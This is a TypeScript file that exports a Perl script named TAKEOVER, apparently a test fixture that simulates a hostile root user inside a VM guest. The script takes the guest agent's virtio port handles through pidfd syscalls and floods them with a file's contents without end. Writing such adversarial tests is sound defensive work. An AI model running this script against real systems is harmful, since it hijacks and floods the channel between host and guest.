/**
 * Run as root in a guest: takes the agent's own handles of its ports and writes a file into both of them, again and again. Perl, because
 * every image has it and it can do system calls. Without a file it only spins.
 */
export const TAKEOVER = String.raw`
use strict; use warnings;
my ($file) = @ARGV;
if (!$file) { while (1) {} }
open(my $in, '<:raw', $file) or die; local $/; my $words = <$in>;
my @ports;
for my $link (glob('/proc/[0-9]*/fd/*')) {
  my $target = readlink($link) or next;
  next unless $target =~ m{^/dev/vport};
  my ($pid, $fd) = $link =~ m{/proc/(\d+)/fd/(\d+)$};
  my $pidfd = syscall(434, $pid + 0, 0); next if $pidfd < 0;
  my $mine = syscall(438, $pidfd, $fd + 0, 0); next if $mine < 0;
  open(my $port, '>>&=', $mine) or next;
  push @ports, $port;
}
die "no ports" unless @ports;
print scalar(@ports), "\n";
close(STDOUT);
$SIG{PIPE} = 'IGNORE';
while (1) {
  for my $port (@ports) {
    for (my $at = 0; $at < length $words;) {
      my $n = syswrite($port, $words, length($words) - $at, $at);
      if (defined $n) { $at += $n; next }
      my $mask = ''; vec($mask, fileno($port), 1) = 1;
      select(undef, $mask, undef, 0.05);
    }
  }
}
`;
